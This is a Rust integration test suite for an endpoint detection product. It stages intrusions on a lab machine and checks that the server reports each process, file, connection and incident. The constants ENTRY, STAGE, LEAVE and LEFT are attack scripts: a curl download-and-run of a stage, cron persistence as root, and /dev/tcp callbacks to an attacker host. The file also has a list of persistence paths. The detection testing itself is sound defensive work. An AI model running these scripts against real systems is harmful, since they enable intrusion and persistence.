//! Incidents: what was done on an endpoint, as the server tells it, beside what the kernel and the disk say was done.

mod cron;

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use quell_lab::attack::{self, SCENARIOS, Scenario, Trace, Truth, Web};
use quell_lab::site::{Machine, Site};
use serde_json::{Value, json};

use crate::{id, site, until};

/// Ports of the attacker on the outside host.
const WEB: u16 = 80;
const CATCH: u16 = 4444;

/// What an attacker has outside.
struct Attacker {
    web: Web,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Attacker {
    fn of(site: &Site) -> Self {
        let outside = site.lab.outside();
        let web = Web::start(outside, WEB).unwrap();
        web.put("/payload", "#!/bin/sh\nid > /tmp/.payload-ran\n");
        let catch = outside.listen(CATCH).unwrap();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let into = Arc::clone(&heard);
        // Takes what connects, hears it out and lets go. Ends with the test's process.
        std::thread::spawn(move || {
            while let Ok((mut stream, _)) = catch.accept() {
                let mut bytes = [0; 4096];
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                let read = std::io::Read::read(&mut stream, &mut bytes).unwrap_or(0);
                into.lock().unwrap().push(String::from_utf8_lossy(&bytes[..read]).into_owned());
            }
        });
        Self { web, heard }
    }

    fn has_heard(&self, text: &str) -> bool {
        self.heard.lock().unwrap().iter().any(|heard| heard.contains(text))
    }
}

/// What was done by a script, and who says so.
struct Done {
    truth: Truth,
    /// Files of the endpoint's disk that are new or other than before.
    files: BTreeMap<PathBuf, attack::Lay>,
    began: Instant,
}

/// Runs a script on the endpoint as an intruder would, and has it watched by others than the agent.
fn attack(site: &Site, machine: &Machine, script: &str) -> Done {
    let root = machine.endpoint.path("/");
    std::fs::write(machine.endpoint.path("/opt/entry.sh"), script).unwrap();
    let before = attack::files(&root);
    let outside = site.lab.outside().addresses().ip4();
    let mut command = machine.endpoint.command("/bin/sh");
    command
        .args(["-c", "read go; exec /bin/sh /opt/entry.sh"])
        .env("OUTSIDE", outside.to_string())
        .env("WEB", format!("{outside}:{WEB}"))
        .env("CATCH", CATCH.to_string())
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    let mut child = machine.endpoint.spawn_command(command).unwrap();
    let trace = Trace::follow(child.pid()).unwrap();
    let began = Instant::now();
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), b"go\n").unwrap();
    let ended = child.wait(Duration::from_mins(1)).unwrap();
    let truth = trace.seen().unwrap();
    assert_eq!(truth.lost, 0, "the witness itself lost something");
    assert!(!truth.runs.is_empty(), "{ended:?}: nothing was run; made {} processes", truth.made);
    let mut files = attack::files(&root);
    files.retain(|path, lay| before.get(path) != Some(lay) && !path.starts_with("/var/lib/quell"));
    Done { truth, files, began }
}

/// The incident that holds a chain whose script is this.
fn incident_of(site: &Site, since: &BTreeSet<String>) -> Option<Value> {
    let list = site.api.get("/incidents?limit=100").unwrap().good().unwrap();
    let found = list["items"].as_array().unwrap().iter().find(|row| !since.contains(id(row)))?;
    Some(site.api.get(&format!("/incidents/{}", id(found))).unwrap().good().unwrap())
}

fn incidents(site: &Site) -> BTreeSet<String> {
    let list = site.api.get("/incidents?limit=1000").unwrap().good().unwrap();
    list["items"].as_array().unwrap().iter().map(|row| id(row).to_owned()).collect()
}

/// Everything of a list.
fn all(site: &Site, path: &str) -> Vec<Value> {
    let (mut items, mut cursor) = (Vec::new(), None::<String>);
    loop {
        let glue = if path.contains('?') { '&' } else { '?' };
        let next = cursor.map_or(String::new(), |cursor| format!("&cursor={cursor}"));
        let page = site.api.get(&format!("{path}{glue}limit=1000{next}")).unwrap().good().unwrap();
        items.extend(page["items"].as_array().unwrap().iter().cloned());
        match page["next"].as_str() {
            Some(more) => cursor = Some(more.to_owned()),
            None => return items,
        }
    }
}

/// A run as both sides can tell it: the names that it may be known by, and the run that it came from.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Told {
    names: BTreeSet<String>,
    from: Option<usize>,
}

/// A name as it is on the machine: links followed, where it is one of what the endpoint shares with it.
fn real(path: &str) -> String {
    std::fs::canonicalize(path).map_or_else(|_| path.to_owned(), |path| path.display().to_string())
}

/// What the server's chains say was run, in order of time, each with the run that it came from.
fn runs_of(site: &Site, incident: &str) -> Vec<Told> {
    let chain = site.api.get(&format!("/incidents/{incident}/chain")).unwrap().good().unwrap();
    let key = |process: &Value| (process["pid"].as_u64().unwrap(), process["start"].as_u64().unwrap());
    let parents: HashMap<(u64, u64), (u64, u64)> = chain["processes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|process| !process["parent"].is_null())
        .map(|process| (key(process), key(&process["parent"])))
        .collect();
    let begun: HashMap<(u64, u64), String> = chain["processes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|process| (key(process), process["started_at"].as_str().unwrap().to_owned()))
        .collect();
    let starts = all(site, &format!("/incidents/{incident}/activity?kind=start"));
    let mut told: Vec<Told> = Vec::new();
    // Of each process, the times and places of its runs.
    let mut runs: HashMap<(u64, u64), Vec<(String, usize)>> = HashMap::new();
    for start in &starts {
        let own = key(&start["process"]);
        let from = runs.get(&own).and_then(|runs| runs.last()).map(|(_, place)| *place).or_else(|| {
            let (mut born, mut parent) = (begun.get(&own)?, parents.get(&own)?);
            loop {
                let before = runs.get(parent).into_iter().flatten().rfind(|(at, _)| at <= born);
                if let Some((_, place)) = before {
                    return Some(*place);
                }
                (born, parent) = (begun.get(parent)?, parents.get(parent)?);
            }
        });
        let image = &start["image"];
        let mut names = BTreeSet::from([real(image["path"].as_str().unwrap())]);
        if let Some(script) = image["script"]["path"].as_str() {
            names.insert(real(script));
        }
        runs.entry(own).or_default().push((start["at"].as_str().unwrap().to_owned(), told.len()));
        told.push(Told { names, from });
    }
    // The shell that waited for the witness is told too: it began before the witness looked.
    if told.first().is_some_and(|first| first.from.is_none()) {
        told.remove(0);
        for run in &mut told {
            run.from = run.from.and_then(|place| place.checked_sub(1));
        }
    }
    told
}

/// Compares what was run with what is told; where they differ, how.
fn differs(truth: &Truth, told: &[Told]) -> Option<String> {
    let names = |run: &attack::Run| real(&run.program);
    if truth.runs.len() != told.len() {
        let ran: Vec<_> = truth.runs.iter().map(names).collect();
        return Some(format!("ran {ran:#?}\ntold {told:#?}"));
    }
    // Two that began at the same moment on two processors may be told in either order: matched by lineage.
    let mut lineages: Vec<Vec<String>> = Vec::new();
    for run in &truth.runs {
        let mut line = vec![names(run)];
        let mut from = run.from;
        while let Some(place) = from {
            line.push(names(&truth.runs[place]));
            from = truth.runs[place].from;
        }
        lineages.push(line);
    }
    for one in told {
        let mut line = vec![&one.names];
        let mut from = one.from;
        while let Some(place) = from {
            line.push(&told[place].names);
            from = told[place].from;
        }
        let fits = |lineage: &Vec<String>| {
            lineage.len() == line.len() && lineage.iter().zip(&line).all(|(name, names)| names.contains(name))
        };
        match lineages.iter().position(fits) {
            Some(place) => drop(lineages.swap_remove(place)),
            None => return Some(format!("told and not done: {line:?}; done: {lineages:#?}")),
        }
    }
    None
}

/// Files that the recorder must tell: programs, scripts, and what makes others run.
fn matters(path: &Path, lay: &attack::Lay) -> bool {
    const PLACES: &[&str] = &[
        "/etc/cron.d/",
        "/etc/sudoers.d/",
        "/etc/pam.d/",
        "/etc/profile.d/",
        "/etc/systemd/system/",
        "/etc/ld.so.preload",
        "/etc/rc.local",
        "/etc/passwd",
        "/root/.bashrc",
        "/root/.ssh/authorized_keys",
        "/var/spool/cron/",
    ];
    let text = path.display().to_string();
    lay.mode & 0o111 != 0 || PLACES.iter().any(|place| text.starts_with(place))
}

/// Files of the chain: of each path, the hashes that it was told with.
fn files_of(site: &Site, incident: &str) -> BTreeMap<PathBuf, BTreeSet<String>> {
    let files = all(site, &format!("/incidents/{incident}/activity?kind=file_create,file_write,file_rename"));
    let mut told: BTreeMap<PathBuf, BTreeSet<String>> = BTreeMap::new();
    for file in &files {
        let path = PathBuf::from(file["file"]["path"].as_str().unwrap());
        told.entry(path).or_default().extend(file["file"]["sha256"].as_str().map(str::to_owned));
    }
    told
}

#[test]
fn an_intrusion_is_told_down_to_each_process_and_file() {
    let Some(site) = site() else { return };
    let web = site.watched("web-1").unwrap();
    let attacker = Attacker::of(&site);
    attacker.web.put("/stage", STAGE);
    let done = attack(&site, &web, ENTRY);
    let before = BTreeSet::new();
    until("an incident", || incident_of(&site, &before).is_some());
    let incident = incident_of(&site, &before).unwrap();
    let number = id(&incident).to_owned();
    let mut last = None;
    let settled = (0..200).any(|_| {
        last = differs(&done.truth, &runs_of(&site, &number));
        std::thread::sleep(Duration::from_millis(50));
        last.is_none()
    });
    assert!(settled, "{}", last.unwrap_or_default());
    // Every program, script and place of persistence that is on the disk now; of programs, the content that they have now.
    let wanted: BTreeMap<_, _> = done.files.iter().filter(|(path, lay)| matters(path, lay)).collect();
    assert!(wanted.contains_key(&PathBuf::from("/tmp/.agent")), "{wanted:?}");
    let mut told = BTreeMap::new();
    let complete = (0..200).any(|_| {
        told = files_of(&site, &number);
        std::thread::sleep(Duration::from_millis(50));
        wanted.iter().all(|(path, lay)| {
            told.get(*path).is_some_and(|hashes| lay.mode & 0o111 == 0 || hashes.contains(&lay.sha256))
        })
    });
    assert!(complete, "wanted {wanted:#?}\ntold {told:#?}");
    let connections = all(&site, &format!("/incidents/{number}/activity?kind=connect"));
    let to = |port: u16| connections.iter().any(|one| one["connection"]["remote_port"] == port);
    assert!(to(WEB) && to(CATCH), "{connections:#?}");
    assert!(attacker.has_heard("hello from"), "the connection was real");
    // A copy of a package's program is known as one, and its content is not forbidden: the program itself has it.
    let copies = all(&site, &format!("/incidents/{number}/activity?kind=file_create"));
    let copy = copies.iter().find(|one| one["file"]["path"] == "/tmp/.agent").unwrap();
    if web.endpoint.path("/var/lib/dpkg/info/coreutils.list").exists() {
        assert!(copy["file"]["copy_of"].as_str().is_some_and(|of| of.starts_with("coreutils ")), "{copy:#}");
        let cut = site.api.get(&format!("/incidents/{number}/cut")).unwrap().good().unwrap();
        let hash = copy["file"]["sha256"].as_str().unwrap();
        let steps = cut["steps"].as_array().unwrap();
        let forbids = |step: &&Value| {
            matches!(step["action"].as_str(), Some("blocklist.add" | "file.prevent_run"))
                && step["params"].to_string().contains(hash)
        };
        assert!(!steps.is_empty() && !steps.iter().any(|step| forbids(&step)), "{cut:#}");
    }
    // One incident, its key events marked.
    assert_eq!(incidents(&site).len(), 1, "what belongs together is one incident");
    let key = all(&site, &format!("/incidents/{number}/activity?key=true"));
    assert!(!key.is_empty() && incident["severity"] != "informational");
    println!(
        "an intrusion of {} programs and {} files that matter: told whole {:.1} s after its begin; techniques {}",
        done.truth.runs.len(),
        wanted.len(),
        done.began.elapsed().as_secs_f64(),
        incident["techniques"]
    );
}

/// By the first hole: a service that runs what it is told.
const ENTRY: &str = "\
curl -s -o /tmp/stage http://$WEB/stage
chmod +x /tmp/stage
/tmp/stage
";
const STAGE: &str = "\
#!/bin/sh
cp /bin/sleep /tmp/.agent
/tmp/.agent 1 &
mkdir -p /var/spool/cron/crontabs
echo '* * * * * /tmp/stage' > /var/spool/cron/crontabs/root
bash -c \"exec 5<>/dev/tcp/$OUTSIDE/$CATCH; echo hello from $(hostname) >&5; exec 5>&-\"
id > /tmp/.who
wait
";

/// What an intruder left behind and another tree runs, as cron does: nobody who ran it was ever in the first one.
#[test]
fn what_was_left_behind_is_of_the_same_incident_when_it_runs_again() {
    let Some(site) = site() else { return };
    let web = site.watched("web-1").unwrap();
    let attacker = Attacker::of(&site);
    attacker.web.put("/update", LEFT);
    drop(attack(&site, &web, LEAVE));
    until("an incident", || incidents(&site).len() == 1);
    let first = incidents(&site).pop_first().unwrap();
    let joined = || {
        let found = all(&site, &format!("/detections?incident={first}"));
        let why = found.iter().filter_map(|one| one["joined"].as_str());
        why.filter(|why| why.contains("/opt/.update")).map(str::to_owned).next()
    };
    assert_eq!(joined(), None);
    let outside = site.lab.outside().addresses().ip4();
    let mut cron = web.endpoint.command("/opt/.update");
    cron.env("OUTSIDE", outside.to_string()).env("CATCH", CATCH.to_string());
    cron.stdout(Stdio::null()).stderr(Stdio::null());
    let child = web.endpoint.spawn_command(cron).unwrap();
    child.wait(Duration::from_mins(1)).unwrap();
    assert!(attacker.has_heard("again"), "the connection was real");
    until("what ran again", || joined().is_some());
    // Told ahead of its file, it may have been an incident of its own for a moment: that is closed then, and names this one.
    assert_eq!(all(&site, "/incidents?state=open,in_progress").len(), 1);
    println!("another tree joined: {}", joined().unwrap_or_default());
}

const LEAVE: &str = "\
curl -s -o /opt/.update http://$WEB/update
chmod +x /opt/.update
mkdir -p /etc/cron.d
echo '* * * * * root /opt/.update' > /etc/cron.d/.update
bash -c \"exec 5<>/dev/tcp/$OUTSIDE/$CATCH; echo first >&5; exec 5>&-\"
";
const LEFT: &str = "\
#!/bin/sh
bash -c \"exec 5<>/dev/tcp/$OUTSIDE/$CATCH; echo again >&5; exec 5>&-\"
";

#[test]
fn techniques_are_detected_and_their_chains_are_whole() {
    let Some(site) = site() else { return };
    let web = site.watched("web-1").unwrap();
    let _attacker = Attacker::of(&site);
    let mut missed: Vec<(&Scenario, &str)> = Vec::new();
    let mut otherwise = Vec::new();
    let (mut whole, mut named) = (0, 0);
    for scenario in SCENARIOS {
        let before = incidents(&site);
        let done = attack(&site, &web, scenario.script);
        let end = Instant::now() + Duration::from_secs(5);
        let (mut verdict, mut told) = ("not detected", BTreeSet::new());
        while Instant::now() < end {
            if let Some(incident) = incident_of(&site, &before) {
                verdict = "its chain is not whole";
                told = techniques(&incident);
                if differs(&done.truth, &runs_of(&site, id(&incident))).is_none() {
                    verdict = "";
                    break;
                }
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        if verdict.is_empty() {
            whole += 1;
        } else {
            missed.push((scenario, verdict));
        }
        // The technique, or the one that it is a part of.
        let technique = scenario.technique();
        let whole_of = technique.split('.').next().unwrap();
        if told.iter().any(|one| one == technique || one.split('.').next() == Some(whole_of)) {
            named += 1;
        } else if verdict != "not detected" {
            otherwise.push(format!("{technique} {}: told as {told:?}", scenario.name));
        }
        close_all(&site);
    }
    for line in &otherwise {
        println!("{line}");
    }
    for (scenario, verdict) in &missed {
        println!("{} {} ({}): {verdict}", scenario.technique(), scenario.name, scenario.title());
    }
    let detected = SCENARIOS.len() - missed.iter().filter(|(_, verdict)| *verdict == "not detected").count();
    println!(
        "{} techniques: {detected} detected, {named} of them by their technique, {whole} with a whole chain",
        SCENARIOS.len()
    );
    // What was reached on a quiet machine, less what a busy one may tell too late.
    assert!(
        detected >= 29 && whole >= 27 && named >= NAMED,
        "{detected} detected, {named} named, {whole} whole"
    );
}

#[test]
fn an_incident_stands_on_the_server_within_a_second_of_the_exec() {
    let Some(site) = site() else { return };
    let web = site.watched("web-1").unwrap();
    let mut waits = Vec::new();
    for run in 0..100 {
        // Content of its own each time, so that nothing is known already; the endpoint reads its own clock, right before.
        let script = format!(
            "cp /bin/true /tmp/.run-{run}; echo {run} >> /tmp/.run-{run}; date +%s%N; /tmp/.run-{run}"
        );
        let began: u64 = crate::said(&web, &script).parse().unwrap();
        let path = format!("/detections?limit=1&text=/tmp/.run-{run}");
        let end = Instant::now() + Duration::from_secs(20);
        loop {
            let page = site.api.get(&path).unwrap().good().unwrap();
            if page["items"][0]["incident"].is_object() {
                break;
            }
            assert!(Instant::now() < end, "run {run} is in no incident: {page:#}");
            std::thread::sleep(Duration::from_millis(2));
        }
        let ended: u64 = crate::said(&web, "date +%s%N").parse().unwrap();
        waits.push(Duration::from_nanos(ended.saturating_sub(began)));
        if run % 25 == 0 {
            // A first detection makes an incident of its own; the others come to join one.
            close_all(&site);
        }
    }
    waits.sort();
    let (median, p99) = (waits[waits.len() / 2], waits[waits.len() * 99 / 100]);
    println!(
        "from exec to an incident that the API tells, {} runs: p50 {median:?}, p99 {p99:?}",
        waits.len()
    );
    // Other tests beside blur the longest; alone it holds, as the nightly run sees.
    let is_alone = std::env::var_os("QUELL_NIGHTLY").is_some();
    let most = Duration::from_secs(if is_alone { 1 } else { 3 });
    assert!(median < Duration::from_secs(1) && p99 < most, "{waits:?}");
}

/// By how many scenarios the technique is told, too.
const NAMED: usize = 27;

fn techniques(incident: &Value) -> BTreeSet<String> {
    incident["techniques"].as_array().unwrap().iter().map(|one| one.as_str().unwrap().to_owned()).collect()
}

/// Closes every incident, so that the next scenario has one of its own.
fn close_all(site: &Site) {
    for incident in all(site, "/incidents?state=open,in_progress") {
        let path = format!("/incidents/{}", id(&incident));
        let body = json!({ "state": "closed", "resolution": "true_positive" });
        site.api.patch(&path, &body).unwrap().good().unwrap();
    }
}
